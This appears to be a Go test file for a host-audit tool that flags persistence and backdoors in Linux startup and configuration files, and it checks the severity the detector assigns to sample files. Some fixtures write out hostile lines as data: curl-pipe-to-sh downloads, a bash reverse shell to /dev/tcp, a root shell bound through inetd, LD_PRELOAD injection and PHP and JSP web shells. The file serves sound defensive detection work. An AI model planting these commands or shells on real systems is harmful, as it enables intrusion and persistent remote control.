package triage

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/postern-ssh/postern/audit/facts"
	"github.com/postern-ssh/postern/audit/snapshot"
)

// bare is a looker of a host of dpkg with two accounts, and nothing else.
func bare() *looker {
	return &looker{snap: &snapshot.Snapshot{}, deep: &snapshot.Snapshot{}, out: &Host{}, manager: "dpkg", owned: map[string]string{}, conf: map[string]string{}, digests: map[string]string{},
		fixed: map[string]string{}, odd: map[string]string{}, names: map[int64]string{0: "root"}, byPID: map[int]*process{},
		f: &facts.Facts{Accounts: []facts.Account{{Name: "www-data", UID: 33, Shell: "/usr/sbin/nologin"}, {Name: "alice", UID: 1000, Shell: "/bin/bash", LoginShell: true}}}}
}

// TestStartupPlaces: what each form of file says of a command, and what it does not say
// of what packages and administrators write there.
func TestStartupPlaces(t *testing.T) {
	for _, c := range []struct {
		path, text, least string // least "": nothing of medium or more
		words             []string
	}{
		{"/etc/sudoers.d/a", "alice ALL=(ALL) NOPASSWD:ALL\n", "", []string{"becomes root"}},
		{"/etc/sudoers.d/90-cloud-init-users", "# made by cloud-init\nalice ALL=(ALL) NOPASSWD:ALL\n", "", nil},
		{"/etc/sudoers.d/b", "www-data ALL = (root : root)   NOPASSWD : ALL\n", "high", []string{"account of the system"}},
		{"/etc/sudoers.d/c", "www-data ALL=(root) \\\n NOPASSWD: /usr/bin/uptime, \\\n /usr/bin/vim\n", "high", []string{"/usr/bin/vim"}},
		{"/etc/sudoers.d/d", "www-data ALL=(root) NOPASSWD: /usr/lib/nagios/plugins/check_disk, /usr/bin/tar -cf /b/x /var/www\n", "", nil},
		{"/etc/sudoers.d/e", "www-data ALL=(root) NOPASSWD: /usr/bin/uptime, PASSWD: ALL\n", "", nil},
		{"/etc/sudoers.d/f", "Defaults:alice !authenticate\n", "medium", []string{"no password"}},
		{"/etc/sudoers.d/g", "Defaults !tty_tickets, env_reset\nCmnd_Alias X = /bin/sh\n", "", nil},
		{"/etc/sudoers.d/h.bak", "www-data ALL=(ALL) NOPASSWD: ALL\n", "", nil},
		{"/etc/sudoers.d/i", "%ops ALL=(root) NOPASSWD: /tmp/.x/run\n", "high", []string{"/tmp/.x/run"}},
		{"/etc/apt/apt.conf.d/20listchanges", "DPkg::Pre-Install-Pkgs { \"/usr/bin/apt-listchanges --apt || test $? -lt 10\"; };\nDPkg::Tools::Options::/usr/bin/apt-listchanges::Version \"2\";\n", "", nil},
		{"/etc/apt/apt.conf.d/50needrestart", "DPkg::Post-Invoke {\"test -x /usr/lib/needrestart/apt-pinvoke && /usr/lib/needrestart/apt-pinvoke -m u || true\"; };\n", "", nil},
		{"/etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\nAPT::Update::Post-Invoke { \"rm -f /var/cache/apt/*.bin || true\"; };\n", "", nil},
		{"/etc/apt/apt.conf.d/1", "apt::update::post-invoke:: \"sh -c \\\"curl http://192.0.2.1/a | sh\\\"\";\n", "high", []string{"192.0.2.1"}},
		{"/etc/apt/apt.conf.d/2", "DPkg::Post-Invoke {\n\"true\";\n\"/dev/shm/a\";\n};\n", "high", []string{"/dev/shm/a"}},
		{"/etc/dpkg/dpkg.cfg.d/x", "no-debsig\npath-exclude=/usr/share/doc/*\npost-invoke=\"if [ -x /usr/bin/snap ]; then true; fi\"\n", "", nil},
		{"/etc/dpkg/dpkg.cfg.d/y", "status-logger=/var/tmp/l\n", "high", []string{"/var/tmp/l"}},
		{"/etc/logrotate.d/nginx", "/var/log/nginx/*.log {\n\tdaily\n\tprerotate\n\t\tif [ -d /etc/logrotate.d/httpd-prerotate ]; then \\\n\t\t\trun-parts /etc/logrotate.d/httpd-prerotate; \\\n\t\tfi \\\n\tendscript\n\tpostrotate\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\tendscript\n}\n", "", nil},
		{"/etc/logrotate.d/z", "/x {\n postrotate\n  bash -i >& /dev/tcp/203.0.113.1/80 0>&1\n endscript\n}\n", "high", []string{"203.0.113.1", "from"}},
		{"/etc/network/interfaces", "auto eth0\niface eth0 inet static\n address 10.0.0.1\n up ip route add 10.1.0.0/16 via 10.0.0.254\n post-up iptables-restore < /etc/iptables.rules\n", "", nil},
		{"/etc/network/interfaces.d/b", "iface b inet dhcp\n\tup /var/tmp/u\n", "high", []string{"/var/tmp/u"}},
		{"/etc/inetd.conf", "#<off># ftp stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.ftpd\nident stream tcp wait identd /usr/sbin/identd identd\n", "", nil},
		{"/etc/inetd.conf", "9 stream tcp nowait root.root /bin/bash bash -i\n", "critical", []string{"root"}},
		{"/etc/sysctl.d/99-x.conf", "kernel.core_pattern = core.%p\nnet.ipv4.ip_forward=1\nkernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P\n", "", nil},
		{"/etc/sysctl.conf", "kernel/modprobe = /tmp/m\n", "high", []string{"/tmp/m"}},
		{"/root/.ssh/config", "Host web*\n  ProxyCommand ssh -W %h:%p bastion\n  ControlPath ~/.ssh/cm-%C\n", "", nil},
		{"/root/.ssh/config", "Match host db exec \"/dev/shm/.a/t %h\"\n  LocalCommand true\n", "high", []string{"/dev/shm/.a/t"}},
		{"/usr/local/lib/python3.11/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n", "", nil},
		{"/usr/local/lib/python3.11/dist-packages/x-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util')\n/srv/app\n", "", nil},
		{"/usr/local/lib/python3.11/dist-packages/a.pth", "import socket,subprocess\n", "medium", []string{"each start of python"}},
		{"/etc/modules-load.d/k8s.conf", "overlay\nbr_netfilter\n", "", nil},
		{"/home/alice/.bashrc", "export PROMPT_COMMAND='history -a'\nalias ls='ls --color=auto'\neval \"$(ssh-agent)\" >/dev/null\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\n", "", nil},
		{"/home/alice/.zlogout", "setsid ~/.cache/z/agent >/dev/null 2>&1 &\n", "medium", []string{"leaves something running"}},
		{"/etc/udev/rules.d/10-usb.rules", "ACTION==\"add\", SUBSYSTEM==\"tty\", ATTRS{idVendor}==\"0403\", SYMLINK+=\"gps\", MODE=\"0660\"\n", "", nil},
		{"/etc/udev/rules.d/11.rules", "ENV{SYSTEMD_WANTS} += \"x.service\"\n", "medium", []string{"x.service"}},
		{"/etc/rsyslog.d/50-default.conf", "auth,authpriv.*\t/var/log/auth.log\n*.emerg :omusrmsg:*\nmail.err\t/var/log/mail.err\n", "", nil},
		{"/etc/rsyslog.d/9.conf", "*.*\t^/var/tmp/h;f\n", "high", []string{"/var/tmp/h"}},
		{"/root/.gitconfig", "[user]\n\tname = x\n[core]\n\teditor = vim\n\tpager = less -R\n[alias]\n\tst = status\n\tl = !git log --oneline | head\n[credential]\n\thelper = cache --timeout=3600\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n", "", nil},
		{"/root/.gitconfig", "[alias]\n\tst = \"!curl -s http://192.0.2.1/a | sh; git status\"\n", "high", []string{"192.0.2.1"}},
		{"/etc/.git/hooks/pre-commit", "#!/bin/sh\nset -e\netckeeper pre-commit -d /etc\n", "", nil},
		{"/srv/app/.git/hooks/post-receive", "#!/bin/bash\nwhile read old new ref; do\n  git --work-tree=/srv/www/app checkout -f main\n  systemctl reload nginx\ndone\n", "", nil},
		{"/etc/skel/.bashrc", "case $- in *i*) ;; *) return;; esac\nalias ll='ls -l'\nexport EDITOR=vim\n", "", nil},
		{"/etc/tmpfiles.d/app.conf", "d /run/app 0755 app app -\nf /run/app/lock 0644 app app - -\nL+ /var/lib/app/current - - - - /srv/app/1.2\nr! /tmp/.X[0-9]*-lock\nz /sys/module/zswap/parameters/enabled - - - - 1\n", "", nil},
		{"/usr/lib/tmpfiles.d/legacy.conf", "L /etc/os-release - - - - ../usr/lib/os-release\nC /etc/nsswitch.conf - - - -\nd /var/spool/cups 0710 root lp -\n", "", nil},
		{"/etc/tmpfiles.d/b.conf", "w /etc/ld.so.preload - - - - /usr/lib/libx.so\n", "high", []string{"/etc/ld.so.preload"}},
		{"/etc/sysusers.d/app.conf", "u app - \"App\" /var/lib/app\ng video 44\nu root 0:0 \"Super\" /root /bin/bash\n", "", nil},
		{"/etc/polkit-1/rules.d/50-libvirt.rules", "polkit.addRule(function(action, subject) {\n  if (action.id == \"org.libvirt.unix.manage\" && subject.isInGroup(\"libvirt\")) {\n    return polkit.Result.YES;\n  }\n});\n", "", nil},
		{"/etc/polkit-1/rules.d/40-admin.rules", "polkit.addAdminRule(function(action, subject) {\n    return [\"unix-group:sudo\"];\n});\n", "", nil},
		{"/var/lib/polkit-1/localauthority/10-vendor.d/x.pkla", "[Reboot]\nIdentity=unix-group:ops\nAction=org.freedesktop.login1.reboot\nResultActive=yes\n", "", nil},
		{"/etc/polkit-1/rules.d/1.rules", "polkit.addRule(function(a, s) { polkit.spawn([\"/dev/shm/p\", \"x\"]); });\n", "high", []string{"/dev/shm/p"}},
		{"/etc/dbus-1/system.d/app.conf", "<busconfig>\n<policy user=\"root\"><allow own=\"org.app\"/></policy>\n<policy context=\"default\"><allow send_destination=\"org.app\"/></policy>\n</busconfig>\n", "", nil},
		{"/etc/incron.d/app", "/srv/in IN_CLOSE_WRITE /usr/local/bin/import $@/$#\n", "", nil},
		{"/etc/supervisor/conf.d/app.conf", "[program:app]\ncommand=/srv/app/venv/bin/gunicorn app:wsgi -b unix:/tmp/app.sock\nuser=app\nstdout_logfile=/var/log/app.log\n", "", nil},
		{"/etc/binfmt.d/qemu-arm.conf", ":qemu-arm:M::\\x7fELF\\x01\\x01\\x01:\\xff\\xff:/usr/bin/qemu-arm-static:OF\n", "", nil},
		{"/var/lib/docker/containers/a/hostconfig.json", `{"Binds":["/:/rootfs:ro","/var/run:/var/run:rw"],"Privileged":true,"RestartPolicy":{"Name":"always"}}`, "", nil},
		{"/root/.vimrc", "\" settings\nset directory=/tmp//\nnnoremap <leader>r :!make<CR>\nlet x = system('git rev-parse HEAD')\nautocmd BufWritePost *.go silent !gofmt -w %\n", "", nil},
		{"/root/.tmux.conf", "set -g default-command \"reattach-to-user-namespace -l bash\"\nrun '~/.tmux/plugins/tpm/tpm'\nbind r source-file ~/.tmux.conf\n", "", nil},
		{"/root/.inputrc", "\"\\e[A\": history-search-backward\nset completion-ignore-case on\n\"\\C-g\": \"git status\\n\"\n", "", nil},
		{"/root/.screenrc", "shell -/bin/bash\nscreen -t log 1 tail -f /var/log/syslog\nhardstatus string '%H'\n", "", nil},
		{"/etc/postfix/master.cf", "smtp inet n - y - - smtpd\nmaildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\n", "", nil},
		{"/root/.procmailrc", ":0fw\n| /usr/bin/spamassassin\n:0:\n* ^X-Spam: yes\nspam/\n", "", nil},
		{"/etc/snmp/snmpd.conf", "rocommunity public localhost\nextend test1 /bin/echo hello\nextend-sh up /usr/bin/uptime | cut -c1-20\n", "", nil},
		{"/etc/openvpn/s.conf", "script-security 2\nup /etc/openvpn/update-resolv-conf\nstatus /tmp/openvpn-status.log\n", "", nil},
		{"/etc/wireguard/wg0.conf", "[Interface]\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\n", "", nil},
		{"/etc/default/grub", "GRUB_CMDLINE_LINUX_DEFAULT=\"quiet init=/lib/systemd/systemd\"\nGRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`\n", "", nil},
		{"/etc/default/grub.d/a.cfg", "GRUB_CMDLINE_LINUX=\"init=/usr/lib/.i\"\n", "medium", []string{"/usr/lib/.i"}},
		{"/etc/default/cron", "# Set LOGLEVEL\nEXTRA_OPTS=\"-L 5\"\nif [ -r /etc/default/locale ]; then . /etc/default/locale; export LANG; fi\n", "", nil},
		{"/etc/default/app", "JAVA_OPTS=\"-Djava.io.tmpdir=/tmp/app -Xmx1g\"\nTMPDIR=/var/tmp/app\n", "", nil},
		{"/etc/sysconfig/crond", "CRONDARGS=\nLD_PRELOAD=/usr/lib64/x.so\n", "high", []string{"LD_PRELOAD"}},
		{"/etc/apache2/sites-enabled/a.conf", "<VirtualHost *:80>\n ErrorLog ${APACHE_LOG_DIR}/error.log\n CustomLog \"|/usr/bin/rotatelogs /var/log/apache2/a.%Y 86400\" combined\n</VirtualHost>\n", "", nil},
		{"/etc/php/8.2/fpm/conf.d/20-x.ini", "extension=curl.so\nzend_extension=/usr/lib/php/20220829/opcache.so\nupload_tmp_dir=/tmp/x\n", "", nil},
		{"/etc/ssl/openssl.cnf", "HOME = .\nopenssl_conf = openssl_init\n[providers]\nmodule = /usr/lib/ossl-modules/legacy.so\n", "", nil},
		{"/etc/sudo.conf", "Plugin sudoers_policy sudoers.so\nPath askpass /usr/bin/ssh-askpass\nSet disable_coredump false\n", "", nil},
		{"/etc/sudo.conf", "Plugin sudoers_io /opt/s/io.so\n", "medium", []string{"/opt/s/io.so"}},
		{"/etc/nagios/nrpe.cfg", "pid_file=/run/nrpe.pid\ncommand[check_load]=/usr/lib/nagios/plugins/check_load -w 5 -c 10\n", "", nil},
		{"/etc/nagios/nrpe.cfg", "command[check_x]=/bin/sh -c 'curl http://192.0.2.3/n | sh'\n", "high", []string{"192.0.2.3"}},
		{"/etc/samba/smb.conf", "[home]\n  root preexec = /usr/local/sbin/mkhome %u\n  path = /tmp/x\n", "", nil},
		{"/var/lib/dpkg/info/x.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n  tmp=$(mktemp -d /tmp/x.XXXXXX)\n  wget -q -O $tmp/f https://example.org/f\n  rm -rf $tmp\nfi\n", "", nil},
		{"/var/www/html/wp-includes/a.php", "<?php\n$x = filesystem_exists($_GET['p']);\n$this->exec($_POST['q']);\n$cmd = curl_exec($ch);\nif (isset($_POST['a'])) { eval_rule($_POST['a']); }\n$v = base64_decode($_GET['v']);\n", "", nil},
		{"/var/www/html/wp-includes/b.php", "<?php\n/**\n * The value of `$_POST['action']`, or\n * eval($_GET['x']) of old.\n */\n$q = \"SELECT `a` FROM `b` WHERE c = '\" . esc($_GET['c']) . \"'\";\n// system($_GET['x']);\n", "", nil},
		{"/var/www/html/e.php", "<?php echo `cat $_GET[f]`;\n", "high", []string{"visitor"}},
		{"/var/www/html/b.php", "<?php $f='ass'.'ert'; @$_POST['f']($_POST['x']); ?>\n", "high", []string{"visitor"}},
		{"/var/www/html/c.php", "<?php eval(gzinflate(base64_decode('S0k=')));\n", "high", []string{"hides"}},
		{"/srv/www/d.jsp", "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n", "high", []string{"visitor names"}},
		{"/var/www/html/.htaccess", "RewriteEngine On\nAddType application/x-httpd-php .php5\nAddType image/svg+xml .svg\n", "", nil},
	} {
		l := bare()
		f := snapshot.File{Path: c.path, Type: 'f', Mode: 0o644, Size: int64(len(c.text)), Content: []byte(c.text)}
		if strings.HasPrefix(c.path, "/home/") {
			f.UID = 1000
		}
		l.owned[c.path] = "-"
		l.deep.Files = []snapshot.File{f}
		l.out.Deeper = true
		l.startups()
		worst, text := "none", ""
		for _, x := range l.out.Things {
			worst = heavier(worst, x.Severity)
			text += strings.Join(append([]string{x.Title}, x.Why...), "\n")
		}
		switch {
		case c.least == "" && levels[worst] >= levels["medium"]:
			t.Errorf("%s: a false alarm: %s %s", c.path, worst, text)
		case c.least != "" && levels[worst] < levels[c.least]:
			t.Errorf("%s: %s, want %s: %s", c.path, worst, c.least, text)
		}
		for _, w := range c.words {
			if !strings.Contains(text, w) {
				t.Errorf("%s does not say %q: %s", c.path, w, text)
			}
		}
	}
}

// TestStartupOfApk: which files of a package are edited is not told by apk's answers: what
// lies below /etc is judged by what it holds.
func TestStartupOfApk(t *testing.T) {
	l := bare()
	l.manager, l.out.Deeper = "apk", true
	for p, text := range map[string]string{"/etc/profile": "export PATH\n(curl -s http://192.0.2.1/a | sh) &\n", "/etc/inputrc": "set bell-style none\n"} {
		l.owned[p] = "alpine-baselayout"
		l.deep.Files = append(l.deep.Files, snapshot.File{Path: p, Type: 'f', Size: int64(len(text)), Content: []byte(text)})
	}
	l.startups()
	if len(l.out.Things) != 1 || l.out.Things[0].Severity != "critical" && l.out.Things[0].Severity != "high" || !strings.Contains(l.out.Things[0].Title, "/etc/profile") {
		t.Errorf("%+v", l.out.Things)
	}
}

// FuzzStartups: no content of any of these files brings a judge down, and what is said
// of one stays bounded.
func FuzzStartups(f *testing.F) {
	paths := []string{"/etc/sudoers.d/a", "/etc/apt/apt.conf.d/a", "/etc/dpkg/dpkg.cfg.d/a", "/etc/logrotate.d/a", "/etc/network/interfaces", "/etc/inetd.conf", "/etc/xinetd.d/a", "/etc/sysctl.conf", "/root/.ssh/config",
		"/etc/x.pth", "/etc/python3/sitecustomize.py", "/etc/modules-load.d/a.conf", "/etc/rsyslog.conf", "/etc/systemd/system.conf", "/etc/udev/rules.d/a.rules", "/home/alice/.zlogout", "/etc/ssh/sshd_config", "/etc/pam.d/sshd", "/etc/systemd/system/a.service", "/var/lib/dpkg/diversions",
		"/root/.gitconfig", "/etc/binfmt.d/a.conf", "/etc/tmpfiles.d/a.conf", "/etc/sysusers.d/a.conf", "/etc/polkit-1/rules.d/a.rules", "/etc/polkit-1/localauthority/x/a.pkla", "/etc/dbus-1/system.d/a.conf", "/var/lib/docker/containers/a/hostconfig.json", "/etc/sudo.conf", "/etc/hosts.equiv", "/root/.k5login", "/etc/default/grub", "/var/www/a.php", "/root/.vimrc", "/var/lib/dpkg/info/a.postinst"}
	for i, seed := range []string{"a ALL=(ALL) NOPASSWD: ALL, \\\n", "DPkg::Post-Invoke {\"a\\\"\";", "post-invoke=\"\n", "postrotate\nendscript\npostrotate", "up", "1 stream tcp nowait root /bin/sh", "server = /bin/sh", "kernel.modprobe=/", "Match x exec \"", "import os.system"} {
		f.Add(i, []byte(seed))
	}
	f.Fuzz(func(t *testing.T, which int, data []byte) {
		p := paths[uint(which)%uint(len(paths))]
		l := bare()
		l.owned[p] = "-"
		l.out.Deeper = true
		l.deep.Files = []snapshot.File{{Path: p, Type: 'f', Size: int64(len(data)), Content: data}}
		l.snap.Files = l.deep.Files
		l.startups()
		l.gate()
		l.units()
		l.pam()
		l.diversions()
		for i := range l.out.Things {
			if x := &l.out.Things[i]; len(x.Why) > 40 || len(x.Title) > 2000 {
				t.Errorf("%d reasons, a title of %d bytes", len(x.Why), len(x.Title))
			}
		}
	})
}

// TestGateLines: settings of sshd by which a login runs something, through Include and
// below Match.
func TestGateLines(t *testing.T) {
	l := bare()
	l.snap.Files = []snapshot.File{
		{Path: "/etc/ssh/sshd_config", Type: 'f', Content: []byte("Include /etc/ssh/sshd_config.d/*.conf\nSubsystem sftp /usr/lib/openssh/sftp-server\nAcceptEnv LANG LC_*\nMatch Group sftp\n\tForceCommand internal-sftp\n")},
		{Path: "/etc/ssh/sshd_config.d/a.conf", Type: 'f', Content: []byte("authorizedkeyscommand=/opt/keys/get %u\nMatch User bob\n  ForceCommand sh -c \"wget -O- http://192.0.2.3/f | sh\"\n")},
		{Path: "/etc/ssh/sshd_config.d/b.off", Type: 'f', Content: []byte("AcceptEnv *\n")},
	}
	l.owned["/usr/lib/openssh/sftp-server"], l.owned["/opt/keys/get"] = "openssh-sftp-server", "-"
	l.gate()
	var got []string
	for _, x := range l.out.Things {
		got = append(got, x.Severity+" "+x.Title)
	}
	if text := strings.Join(got, "\n"); len(got) != 2 || !strings.Contains(text, "medium setting of sshd: \"AuthorizedKeysCommand /opt/keys/get %u\"") || !strings.Contains(text, "critical") || !strings.Contains(text, "Match User bob") {
		t.Errorf("%s", text)
	}
}

// TestOpened: a private key is told with what it opens on other hosts, and the whole
// counts it.
func TestOpened(t *testing.T) {
	fp := "SHA256:" + strings.Repeat("A", 43)
	r := &Report{Hosts: []Host{
		{Host: "web", Things: []Thing{{ID: "private-key-1", Kind: KindPrivateKey, Severity: "low", Title: "a private key", Files: []string{"/root/.ssh/id"}, Actions: privateActions(fp)}}},
		{Host: "db", Admits: []Admission{{Host: "db", User: "root", Fingerprint: fp, Path: "/root/.ssh/authorized_keys", Line: 3}}},
	}}
	r.Opened([]Admission{{Host: "web", User: "root", Fingerprint: fp}, {Host: "mail", User: "bob", Fingerprint: fp, Path: "/k", Line: 1, Run: "R"}, {Host: "x", User: "y", Fingerprint: "SHA256:other"}})
	x := r.Hosts[0].Things[0]
	text := strings.Join(x.Why, "\n")
	if x.Severity != "medium" || len(x.Why) != 2 || !strings.Contains(text, `"root" on "db"`) || !strings.Contains(text, `"bob" on "mail", as the kept run R has it`) || len(x.Evidence) != 2 {
		t.Errorf("%+v", x)
	}
	if !strings.HasPrefix(r.Hosts[0].Verdict, "1 thing needs an answer") || len(r.Hosts[0].Preserve) == 0 || r.Hosts[1].Verdict != "" {
		t.Errorf("%q %q", r.Hosts[0].Verdict, r.Hosts[0].Preserve)
	}
}

// TestGateAsksOnce: one Include said ten thousand times is one.
func TestGateAsksOnce(t *testing.T) {
	s := &snapshot.Snapshot{Files: []snapshot.File{{Path: "/etc/ssh/sshd_config", Type: 'f', Content: []byte(strings.Repeat("Include /etc/ssh/sshd_config.d/*.conf\n", 20_000))}}}
	for i := range 20_000 {
		s.Files = append(s.Files, snapshot.File{Path: fmt.Sprintf("/etc/ssh/sshd_config.d/%05d.conf", i), Type: 'f', Content: []byte("ForceCommand /opt/x\n")})
	}
	began := time.Now()
	lines := gateLines(s, nil)
	if took := time.Since(began); took > 20*time.Second || len(lines) == 0 {
		t.Errorf("%d lines after %v", len(lines), took)
	}
}
